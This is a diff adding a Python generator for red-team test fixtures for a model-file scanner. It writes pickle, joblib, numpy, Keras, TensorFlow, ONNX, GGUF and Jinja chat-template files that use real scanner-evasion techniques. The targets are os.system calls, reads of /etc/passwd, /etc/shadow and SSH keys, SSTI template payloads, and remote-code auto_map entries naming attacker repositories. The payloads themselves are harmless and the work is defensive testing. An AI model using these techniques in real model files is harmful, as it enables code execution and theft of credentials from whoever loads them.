@@ -1,0 +1,408 @@
+#!/usr/bin/python3
+"""Second red-team round for ward's model analysis (issue 13): techniques that
+differ from everything in testdata/redteam and testdata/redteam-pickle, built
+from the 2025-26 public record and from reading the loaders' sources. Run with
+Debian's python3 (python3-numpy, python3-h5py, python3-onnx; zstd(1) for the
+one zstd file):
+
+    /usr/bin/python3 checks/model/testdata/redteam2/gen_redteam2.py [--table]
+
+Every file is WRITTEN here, byte by byte or by the real library writing
+containers around hand-made payloads, and NEVER loaded: the payloads would
+run. They are harmless (os.system('true'), `echo ward-redteam`, a path under
+/tmp/ward-redteam, or a file read into a model). manifest.json lists, per
+file, the technique, its public source, the loader that would run it and the
+finding ward must give (TestRedTeam2 in redteam_test.go); `--table` prints
+the README table.
+"""
+import bz2, gzip, io, json, lzma, os, struct, subprocess, sys, tarfile, zipfile
+
+import h5py
+import numpy as np
+from onnx import TensorProto, helper
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+MAL = os.path.join(HERE, "malicious")
+entries = []
+
+CMD = "true"
+ECHO = "echo ward-redteam"
+
+CRIT, HIGH = "model-pickle-dangerous-global", "model-pickle-unknown-call"
+PICKLE_LOAD = "pickle.load / torch.load(weights_only=False)"
+
+
+def write(rel, data):
+    p = os.path.join(MAL, rel)
+    os.makedirs(os.path.dirname(p), exist_ok=True)
+    with open(p, "wb") as f:
+        f.write(data if isinstance(data, bytes) else data.encode())
+
+
+def add(rel, data, fmt, technique, source, loader, rule, evidence):
+    if data is not None:
+        write(rel, data)
+    entries.append(dict(File=rel, Format=fmt, Technique=technique, Source=source, Loader=loader, Rule=rule, Evidence=evidence))
+
+
+# ---------------------------------------------------------------- pickle opcodes
+def bu(s):  # BINUNICODE
+    b = s.encode()
+    return b"X" + struct.pack("<I", len(b)) + b
+
+
+def su(s):  # SHORT_BINUNICODE
+    b = s.encode()
+    return b"\x8c" + bytes([len(b)]) + b
+
+
+def glob(mod, name):  # GLOBAL
+    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"
+
+
+def call(mod, name, *args):
+    return b"\x80\x02" + glob(mod, name) + b"(" + b"".join(bu(a) for a in args) + b"tR"
+
+
+SYS = call("os", "system", CMD) + b"."
+P0 = glob("os", "system") + b"(V" + CMD.encode() + b"\ntR."  # protocol 0, no NUL byte
+NPRND = "numpy.random._pickle"
+NP_SRC = "numpy/random/_pickle.py (numpy PR #22014: bit generators supply their own constructor)"
+
+# ---------------------------------------------------------------- pickle: allowlisted callables that call their arguments
+add("pickle/randomstate_ctor_gadget.pkl",
+    b"\x80\x02" + glob(NPRND, "__randomstate_ctor") + b"(" + bu(CMD) + glob("distutils_helpers_future", "spawn_shell") + b"tR.",
+    "pickle", "allowlisted numpy.random._pickle.__randomstate_ctor(name, ctor) calls ctor(name): an unlisted gadget run "
+    "through a reconstructor every scanner admits", NP_SRC + "; unlisted-gadget class of JFrog CVE-2025-10157",
+    "pickle.load / joblib.load", HIGH, "distutils_helpers_future.spawn_shell")
+add("pickle/generator_ctor_gadget.pkl",
+    b"\x80\x02" + glob(NPRND, "__generator_ctor") + b"(" + bu(CMD) + glob("distutils_helpers_future", "spawn_shell") + b"tR.",
+    "pickle", "allowlisted numpy.random._pickle.__generator_ctor(name, ctor) calls ctor(name)", NP_SRC,
+    "pickle.load / joblib.load", HIGH, "distutils_helpers_future.spawn_shell")
+add("pickle/bit_generator_ctor_class.pkl",
+    b"\x80\x02" + glob(NPRND, "__bit_generator_ctor") + b"(" + glob("distutils_helpers_future", "ShellOnInit") + b"tR.",
+    "pickle", "allowlisted __bit_generator_ctor(cls) instantiates (calls) the class it is given (NumPy 2)", NP_SRC,
+    "pickle.load (NumPy >= 1.25)", HIGH, "distutils_helpers_future.ShellOnInit")
+add("pickle/randomstate_via_bitgen_ctor.pkl",
+    b"\x80\x02" + glob(NPRND, "__randomstate_ctor") + b"(" + glob("distutils_helpers_future", "ShellOnInit") +
+    glob(NPRND, "__bit_generator_ctor") + b"tR.",
+    "pickle", "NumPy 2's own shape (__randomstate_ctor(cls, __bit_generator_ctor)) with an unlisted class", NP_SRC,
+    "pickle.load (NumPy >= 1.25)", HIGH, "distutils_helpers_future.ShellOnInit")
+add("pickle/rebuild_from_type_v1.pkl",
+    b"\x80\x02" + glob("torch._tensor", "_rebuild_from_type") + b"(" + glob("distutils_helpers_future", "spawn_shell") +
+    glob("torch", "Tensor") + b"(" + bu(CMD) + b"t}tR.",
+    "pickle", "torch._tensor._rebuild_from_type (v1, in torch's weights_only allowlist) calls func(*args)",
+    "torch/_tensor.py _rebuild_from_type; torch/_weights_only_unpickler.py; CVE-2025-32434 class (weights_only allowlist reach)",
+    PICKLE_LOAD, HIGH, "distutils_helpers_future.spawn_shell")
+add("pickle/copyreg_ext_registered.pkl",
+    b"\x80\x02" + glob("copyreg", "add_extension") + b"(" + bu("os") + bu("system") + b"K\xf0tR0\x82\xf0(" + bu(CMD) + b"tR.",
+    "pickle", "copyreg.add_extension('os', 'system', 240), then EXT1 240 resolves the callable with no name in the stream",
+    "CPython Lib/copyreg.py extension registry; pickle EXT1/EXT2/EXT4 opcodes", "pickle.load", CRIT, "copyreg.add_extension")
+add("pickle/unicode_raw_escape_names.pkl", b"\x80\x04Vo\\u0073\nVsy\\u0073tem\n\x93" + bu(CMD) + b"\x85R.",
+    "pickle", "STACK_GLOBAL operands from protocol 0 UNICODE with raw-unicode-escape (\\u0073) spellings",
+    "CPython _pickle.c load_unicode (raw_unicode_escape); GHSA-9gvj-pp9x-gcfr (picklescan parsing flaw class)", "pickle.load",
+    CRIT, "os.system")
+add("pickle/string_escape_names.pkl", b"\x80\x04S'\\x6fs'\nS'syst\\x65m'\n\x93" + bu(CMD) + b"\x85R.",
+    "pickle", "STACK_GLOBAL operands from protocol 0 STRING with \\x escapes (decoded to str under encoding='ASCII')",
+    "CPython _pickle.c load_string (escape_decode); GHSA-9gvj-pp9x-gcfr class", "pickle.load", CRIT, "os.system")
+add("pickle/module_attribute_path.pkl", b"\x80\x04" + su("torch") + su("os.system") + b"\x93" + su(CMD) + b"\x85R.",
+    "pickle", "a dotted name through an allowed package's own import (torch.os.system, protocol 4 getattr walk)",
+    "CPython pickle find_class _getattribute (protocol 4 dotted names)", PICKLE_LOAD,
+    CRIT, "torch.os.system")
+add("pickle/build_on_class.pkl",
+    b"\x80\x02" + glob("argparse", "Namespace") + b"N}" + bu("__eq__") + glob("distutils_helpers_future", "spawn_shell") + b"s\x86b0N.",
+    "pickle", "BUILD with slot state on a class object: setattr on an allowlisted class, replacing a method for every later user",
+    "CPython pickle load_build (setattr of slotstate); fickling module-override tests (class variant)", "pickle.load",
+    "model-pickle-mutates-module", "argparse.Namespace")
+add("pickle/persid_argument.pkl", b"\x80\x02" + glob("distutils_helpers_future", "spawn_shell") + b"(" + bu(CMD) + b"tR\x85Q.",
+    "pickle", "the call sits inside a BINPERSID id: it runs before persistent_load ever sees it",
+    "CPython pickle load_binpersid; torch.load persistent_load", "torch.load(weights_only=False)", HIGH,
+    "distutils_helpers_future.spawn_shell")
+add("pickle/compat_imap.pkl",
+    glob("__builtin__", "list") + b"(" + glob("itertools", "imap") + b"(" + glob("os", "system") + b"(lp0\nV" + CMD.encode() +
+    b"\natRtR.", "pickle", "itertools.imap (renamed to builtins.map by fix_imports) maps os.system over a list; list() runs it",
+    "CPython Lib/_compat_pickle.py NAME_MAPPING (protocol < 3)", "pickle.load", CRIT, "os.system")
+
+# ---------------------------------------------------------------- pickle: wrappers and containers
+half = len(SYS) // 2
+add("joblib/gzip_two_members.joblib", gzip.compress(SYS[:half], mtime=0) + gzip.compress(SYS[half:], mtime=0),
+    "joblib", "pickle split across two gzip members (neither member alone holds the call)",
+    "RFC 1952 multi-member streams; ReversingLabs nullifAI (Feb 2025) compressed-pickle evasion", "joblib.load", CRIT, "os.system")
+add("joblib/bz2_two_streams.joblib", bz2.compress(SYS[:half]) + bz2.compress(SYS[half:]),
+    "joblib", "pickle split across two concatenated bzip2 streams", "Python bz2 multi-stream decompression; nullifAI class",
+    "joblib.load", CRIT, "os.system")
+add("joblib/xz_two_streams.joblib", lzma.compress(SYS[:half]) + lzma.compress(SYS[half:]),
+    "joblib", "pickle split across two concatenated xz streams", "Python lzma multi-stream .xz; nullifAI class",
+    "joblib.load", CRIT, "os.system")
+add("joblib/lzma_small_dict.joblib",
+    lzma.compress(SYS, format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16}]),
+    "joblib", "lzma-alone header with a non-default dictionary size (joblib matches only the first bytes)",
+    "joblib/compressor.py _LZMA_PREFIX; .lzma header format", "joblib.load", CRIT, "os.system")
+add("joblib/xz_sha256_check.joblib", lzma.compress(SYS, check=lzma.CHECK_SHA256),
+    "joblib", "xz stream with a SHA-256 integrity check instead of CRC64", "xz file format 1.1.0 (check IDs)", "joblib.load",
+    CRIT, "os.system")
+with open("/tmp/ward-redteam2-sys.pkl", "wb") as fh:
+    fh.write(SYS)
+add("pickle/frame.pkl.zst", subprocess.run(["zstd", "-q", "-c", "--no-check", "/tmp/ward-redteam2-sys.pkl"], capture_output=True,
+                                          check=True).stdout,
+    "pickle", "zstd-compressed pickle (pandas infers the codec from .zst)", "pandas.read_pickle compression='infer' (zstd since 1.4)",
+    "pandas.read_pickle", CRIT, "os.system")
+os.remove("/tmp/ward-redteam2-sys.pkl")
+t = io.BytesIO()
+with tarfile.open(fileobj=t, mode="w:xz") as tf:
+    ti = tarfile.TarInfo("frame.pkl")
+    ti.size, ti.mtime = len(SYS), 0
+    tf.addfile(ti, io.BytesIO(SYS))
+add("pickle/frame.pkl.tar.xz", t.getvalue(), "pickle", "pickle as the only member of a .tar.xz (pandas reads tar archives)",
+    "pandas.read_pickle compression='tar' (pandas 1.5+)", "pandas.read_pickle", CRIT, "os.system")
+zb = io.BytesIO()
+with zipfile.ZipFile(zb, "w") as z:
+    z.writestr(zipfile.ZipInfo("archive/data.pkl", (2025, 1, 1, 0, 0, 0)), b"\x80\x02}q\x00.")
+    z.writestr(zipfile.ZipInfo("archive/version", (2025, 1, 1, 0, 0, 0)), "3\n")
+add("torch/pickle_then_zip.pt", SYS + zb.getvalue(), "torch",
+    "polyglot: a pickle, then a clean PyTorch zip (zip readers find the archive from the end; torch.load sees no PK "
+    "at byte 0 and unpickles the start)", "torch/serialization.py _is_zipfile (checks the first bytes); CVE-2025-10155 (format confusion)",
+    "torch.load (legacy path)", CRIT, "os.system")
+zb = io.BytesIO()
+with zipfile.ZipFile(zb, "w") as z:
+    with z.open(zipfile.ZipInfo("archive/data.pkl", (2025, 1, 1, 0, 0, 0)), "w", force_zip64=True) as f:
+        f.write(SYS)
+    z.writestr(zipfile.ZipInfo("archive/version", (2025, 1, 1, 0, 0, 0)), "3\n")
+add("torch/zip64_member.pt", zb.getvalue(), "torch", "data.pkl written with zip64 extra fields (sizes in the extra block)",
+    "APPNOTE 4.5.3 zip64; miniz (torch) reads zip64", "torch.load", CRIT, "os.system")
+
+
+def npy(header, body):
+    h = header.encode("latin1")
+    h += b" " * (64 - (10 + len(h) + 1) % 64) + b"\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + body
+
+
+add("numpy/duplicate_descr.npy", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), 'descr': '|O', }", SYS),
+    "numpy", "header dict names descr twice: '<f8' first, '|O' last (Python's dict literal keeps the last)",
+    "numpy/lib/format.py (ast.literal_eval of the header); Python dict display semantics", "numpy.load(allow_pickle=True)",
+    CRIT, "os.system")
+add("numpy/escaped_key.npy", npy("{'d\\x65scr': '|O', 'fortran_order': False, 'shape': (1,), }", SYS),
+    "numpy", "the key itself is an escaped literal ('d\\x65scr')", "numpy/lib/format.py (ast.literal_eval)",
+    "numpy.load(allow_pickle=True)", CRIT, "os.system")
+b = io.BytesIO()
+with zipfile.ZipFile(b, "w", zipfile.ZIP_BZIP2) as z:
+    z.writestr(zipfile.ZipInfo("a.npy", (2025, 1, 1, 0, 0, 0)), npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", SYS))
+add("numpy/bzip2_member.npz", b.getvalue(), "numpy", "npz member compressed with bzip2 (method 12; numpy.load uses zipfile)",
+    "APPNOTE method 12; Python zipfile ZIP_BZIP2", "numpy.load(allow_pickle=True)['a']", CRIT, "os.system")
+
+# ---------------------------------------------------------------- Keras
+def zput(z, name, data, method=None):
+    info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
+    info.compress_type = z.compression if method is None else method
+    z.writestr(info, data)
+
+
+def dense(**extra):
+    cfg = {"name": "dense", "units": 2, "activation": "linear"}
+    cfg.update(extra)
+    return {"module": "keras.layers", "class_name": "Dense", "config": cfg, "registered_name": None}
+
+
+def seq(*layers):
+    return {"module": "keras", "class_name": "Sequential", "registered_name": None, "config": {
+        "name": "sequential", "layers": [{"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
+                                          "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"}}] + list(layers)}}
+
+
+def weights_h5():
+    bio = io.BytesIO()
+    with h5py.File(bio, "w") as f:
+        f.create_group("layers/dense/vars").create_dataset("0", data=np.zeros((4, 2), dtype="float32"))
+    return bio.getvalue()
+
+
+def keras_zip(members):
+    """members: (name, data[, zip method]); metadata.json first, as Keras writes it."""
+    bio = io.BytesIO()
+    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as z:
+        zput(z, "metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-06-01@00:00:00"}))
+        for m in members:
+            zput(z, *m)
+    return bio.getvalue()
+
+
+K3 = "keras.saving.load_model (Keras 3)"
+KU = "model-keras-unsafe-module"
+OS_FN = json.dumps(seq(dense(activation={"module": "os", "class_name": "function", "config": "system", "registered_name": None})))
+add("keras/function_name_in_config.keras", keras_zip([("config.json", json.dumps(seq(dense(activation={
+    "module": "keras.src.saving.saving_lib", "class_name": "function", "config": "load_model", "registered_name": "function"})))),
+    ("model.weights.h5", weights_h5())]),
+    "Keras 3 .keras", "class_name 'function' with the function's name in config (a keras.src module, a name no class list holds)",
+    "io-no/CVE-Reports #5 (CVE-2025-9906/8747: function objects resolved from module + config)", K3 + ", safe_mode=True",
+    KU, "keras.src.saving.saving_lib.load_model")
+nb = io.BytesIO()
+with zipfile.ZipFile(nb, "w") as z:
+    zput(z, "dense/0.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", SYS))
+add("keras/npz_weights.keras", keras_zip([("config.json", json.dumps(seq(dense()))), ("model.weights.npz", nb.getvalue())]),
+    "Keras 3 .keras", "weights stored as model.weights.npz whose member is an object array (Keras' NpzIOStore loads with "
+    "allow_pickle=True)", "keras/src/saving/saving_lib.py NpzIOStore (np.load(..., allow_pickle=True))", K3 + ", safe_mode=True",
+    CRIT, "os.system")
+import warnings
+warnings.simplefilter("ignore")
+add("keras/duplicate_config.keras", keras_zip([("config.json", json.dumps(seq(dense()))), ("config.json", OS_FN),
+                                               ("model.weights.h5", weights_h5())]),
+    "Keras 3 .keras", "two config.json members: a clean one first, os.system in the one Python's zipfile returns (the last)",
+    "Python zipfile (NameToInfo keeps the last duplicate); Sonatype CVE-2025-1944 class (zip name confusion)", K3, KU, "os.system")
+add("keras/tfsmlayer_outside.keras", keras_zip([("config.json", json.dumps(seq({"module": "keras.layers", "class_name": "TFSMLayer",
+    "registered_name": None, "config": {"name": "t", "filepath": "/tmp/ward-redteam/saved_model", "call_endpoint": "serve"}}))),
+    ("model.weights.h5", weights_h5())]),
+    "Keras 3 .keras", "TFSMLayer loads and runs a SavedModel from a path outside the archive (its graph is not in the file reviewed)",
+    "Keras 3 TFSMLayer (keras/src/export/tfsm_layer.py); safe_mode does not cover it", K3, "model-keras-tfsm-outside",
+    "/tmp/ward-redteam/saved_model")
+
+
+# ---------------------------------------------------------------- TensorFlow (hand-written protobuf)
+def varint(n):
+    b = b""
+    while True:
+        c = n & 0x7F
+        n >>= 7
+        b += bytes([c | (0x80 if n else 0)])
+        if not n:
+            return b
+
+
+def fld(num, payload):
+    if isinstance(payload, int):
+        return varint(num << 3) + varint(payload)
+    if isinstance(payload, str):
+        payload = payload.encode()
+    return varint(num << 3 | 2) + varint(len(payload)) + payload
+
+
+def node(name, op, inputs=(), attrs=b""):
+    return fld(1, name) + fld(2, op) + b"".join(fld(3, i) for i in inputs) + attrs
+
+
+def const_str(name, s):
+    return node(name, "Const", attrs=fld(5, fld(1, "value") + fld(2, fld(8, fld(1, 7) + fld(8, s)))))
+
+
+def graph(nodes):
+    return b"".join(fld(1, n) for n in nodes)
+
+
+BASE = [node("x", "Placeholder"), node("y", "MatMul", ["x", "x"])]
+TF = "tf.saved_model.load / TF Serving"
+TFOP = "model-tf-dangerous-op"
+add("tf/second_meta_graph/saved_model.pb", fld(1, 1) + fld(2, fld(2, graph(BASE))) +
+    fld(2, fld(2, graph(BASE + [const_str("p", "/etc/passwd"), node("r", "ReadFile", ["p"])]))),
+    "TF SavedModel", "a clean serving meta graph first, ReadFile in a second meta graph (another tag set)",
+    "tensorflow/core/protobuf/saved_model.proto (repeated meta_graphs, chosen by tags)", "tf.saved_model.load(dir, tags=[...])",
+    TFOP, "ReadFile")
+add("tf/frozen_graph.pb", graph(BASE + [const_str("p", "/etc/passwd"), node("r", "ReadFile", ["p"])]) + fld(4, fld(1, 1)),
+    "TF GraphDef", "a bare frozen GraphDef (no SavedModel wrapper) whose graph reads a file",
+    "tf.compat.v1.GraphDef + tf.import_graph_def (frozen graphs); OpenCV dnn readNetFromTensorflow", "tf.import_graph_def + Session.run",
+    TFOP, "ReadFile")
+add("tf/savev2_fixed_path/saved_model.pb", fld(1, 1) + fld(2, fld(2, graph(BASE + [const_str("p", "/home/user/.bashrc"),
+    const_str("n", "x"), node("s", "SaveV2", ["p", "n", "n", "y"])]))),
+    "TF SavedModel", "SaveV2 (an op every SavedModel holds) given a constant prefix outside the model: a checkpoint written over "
+    "~/.bashrc", "TensorFlow io_ops SaveV2; issue 13 class: file writers", TF, TFOP, "/home/user/.bashrc")
+
+
+# ---------------------------------------------------------------- ONNX: external data everywhere onnx.load looks
+def external(t, loc):
+    t.data_location = TensorProto.EXTERNAL
+    del t.external_data[:]
+    e = t.external_data.add()
+    e.key, e.value = "location", loc
+    t.ClearField("float_data")
+
+
+def onnx_graph(nodes, inits=()):
+    return helper.make_graph(nodes, "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
+                             [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])], list(inits))
+
+
+OX = "onnx.load / onnxruntime.InferenceSession"
+OXR = "model-onnx-external-data-path"
+OXS = "onnx/external_data_helper.py _get_all_tensors (initializers and attribute tensors, recursively); CVE-2024-27318 class"
+t = helper.make_tensor("c", TensorProto.FLOAT, [2], [0.0, 0.0])
+external(t, "../../../../etc/passwd")
+add("onnx/constant_attribute.onnx", helper.make_model(onnx_graph([helper.make_node("Constant", [], ["c"], value=t),
+                                                                  helper.make_node("Add", ["x", "c"], ["y"])])).SerializeToString(),
+    "ONNX", "external data on a Constant node's value attribute, not an initializer", OXS, OX, OXR, "etc/passwd")
+t = helper.make_tensor("w", TensorProto.FLOAT, [2], [0.0, 0.0])
+external(t, "/root/.ssh/id_rsa")
+then_g = helper.make_graph([helper.make_node("Identity", ["w"], ["o"])], "then", [], [helper.make_tensor_value_info("o", TensorProto.FLOAT, [2])], [t])
+else_g = helper.make_graph([helper.make_node("Identity", ["x"], ["o2"])], "else", [], [helper.make_tensor_value_info("o2", TensorProto.FLOAT, [2])])
+add("onnx/if_branch_initializer.onnx", helper.make_model(onnx_graph([
+    helper.make_node("Constant", [], ["cond"], value=helper.make_tensor("b", TensorProto.BOOL, [], [True])),
+    helper.make_node("If", ["cond"], ["y"], then_branch=then_g, else_branch=else_g)])).SerializeToString(),
+    "ONNX", "external data on an initializer of an If node's then-branch subgraph", OXS, OX, OXR, "id_rsa")
+vals = helper.make_tensor("sv", TensorProto.FLOAT, [1], [1.0])
+external(vals, "/proc/self/environ")
+g = onnx_graph([helper.make_node("Identity", ["x"], ["y"])])
+g.sparse_initializer.append(helper.make_sparse_tensor(vals, helper.make_tensor("si", TensorProto.INT64, [1], [0]), [2]))
+add("onnx/sparse_initializer.onnx", helper.make_model(g).SerializeToString(), "ONNX",
+    "external data on the values of a sparse initializer", "onnx.proto SparseTensorProto; " + OXS, OX, OXR, "/proc/self/environ")
+t = helper.make_tensor("fc", TensorProto.FLOAT, [2], [0.0, 0.0])
+external(t, "/etc/shadow")
+fn = helper.make_function("custom.dom", "F", ["a"], ["b"], [helper.make_node("Constant", [], ["k"], value=t),
+                                                           helper.make_node("Add", ["a", "k"], ["b"])], [helper.make_opsetid("", 17)])
+add("onnx/local_function_constant.onnx", helper.make_model(onnx_graph([helper.make_node("F", ["x"], ["y"], domain="custom.dom")]),
+    functions=[fn], opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("custom.dom", 1)]).SerializeToString(),
+    "ONNX", "external data inside a model-local function (custom domain) body", "onnx.proto ModelProto.functions (IR 8); " + OXS,
+    OX, OXR, "/etc/shadow")
+
+
+# ---------------------------------------------------------------- GGUF and chat templates
+def gguf(kvs):
+    b = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs))
+    for k, v in kvs:
+        kb, vb = k.encode(), v.encode()
+        b += struct.pack("<Q", len(kb)) + kb + struct.pack("<I", 8) + struct.pack("<Q", len(vb)) + vb
+    return b
+
+
+EVIL_TPL = "{{ lipsum.__globals__['os'].popen('" + ECHO + "').read() }}"
+LOOP = "{% for message in messages %}{{ message['content'] }}{% endfor %}"
+TPL = "transformers apply_chat_template, vLLM, TGI"
+TPLR = "model-chat-template-injection"
+add("templates/gguf_duplicate_key.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template", LOOP),
+                                               ("tokenizer.chat_template", EVIL_TPL)]),
+    "GGUF", "tokenizer.chat_template written twice: a clean first value, the payload second (readers differ on which wins)",
+    "GGUF spec (keys should be unique, nothing enforces it); gguf-py GGUFReader duplicate-key handling; CVE-2024-34359",
+    "llama-cpp-python / transformers GGUF loading", "model-gguf-chat-template-injection", "__globals__")
+for name, body, tech, src, ev in [
+    ("kwarg_names", "{% set n = dict(__class__=1)|list|first %}{{ ()|attr(n) }}",
+     "the name is a keyword argument's name, read back with dict(...)|list|first", "PayloadsAllTheThings SSTI (Jinja2 filter bypass with dict keys)", "__class__"),
+    ("select_string", "{% set u = (()|select|string)[24] %}{{ ()|attr(u ~ u ~ 'class' ~ u ~ u) }}",
+     "underscore cut out of a generator's repr (()|select|string)[24], no global used", "SSTI filter-bypass cheat sheets (Jinja2: string of a generator object)", "|attr("),
+    ("format_map", "{{ '{m.__class__.__mro__}'.format_map({'m': messages}) }}",
+     "str.format_map field that walks attributes", "Jinja sandbox CVE-2019-10906 (format_map); Python format-string attribute access", "__class__"),
+    ("extends_file", "{% extends '/etc/passwd' %}",
+     "{% extends %} of an absolute path (a template loader reads it)", "Jinja2 template inheritance; issue 13 (include/import)", "/etc/passwd"),
+]:
+    add("templates/%s/chat_template.jinja" % name, LOOP + body, "chat_template.jinja", tech, src, TPL, TPLR, ev)
+
+# ---------------------------------------------------------------- Hugging Face configs naming code elsewhere
+HFR = "model-hf-remote-code"
+add("hf/processor/preprocessor_config.json", json.dumps({"image_processor_type": "XImageProcessor", "auto_map": {
+    "AutoImageProcessor": "attacker/proc--image_processing_x.XImageProcessor"}}),
+    "Hugging Face preprocessor_config.json", "auto_map of an image processor in another repository (not config.json)",
+    "transformers dynamic_module_utils get_class_from_dynamic_module ('repo--module.Class'); AutoImageProcessor",
+    "AutoImageProcessor.from_pretrained(trust_remote_code=True)", HFR, "attacker/proc")
+add("hf/tokenizer_pair/tokenizer_config.json", json.dumps({"tokenizer_class": "XTokenizer", "auto_map": {
+    "AutoTokenizer": ["attacker/tok--tokenization_x.XTokenizer", None]}}),
+    "Hugging Face tokenizer_config.json", "AutoTokenizer auto_map as a [slow, fast] pair naming another repository",
+    "transformers tokenization_auto (auto_map AutoTokenizer is a pair)", "AutoTokenizer.from_pretrained(trust_remote_code=True)",
+    HFR, "attacker/tok")
+
+if __name__ == "__main__":
+    with open(os.path.join(HERE, "manifest.json"), "w") as f:
+        json.dump({"malicious": entries}, f, indent=1)
+        f.write("\n")
+    if "--table" in sys.argv:
+        print("| # | file | technique | source | loader that runs it | ward's finding |")
+        print("|---|---|---|---|---|---|")
+        for i, e in enumerate(entries, 1):
+            print("| %d | `%s` | %s | %s | %s | `%s` naming `%s` |" % (i, e["File"], e["Technique"].replace("|", "\\|"), e["Source"],
+                  e["Loader"], e["Rule"], e["Evidence"].replace("|", "\\|")))
+    print(len(entries), "files", file=sys.stderr)
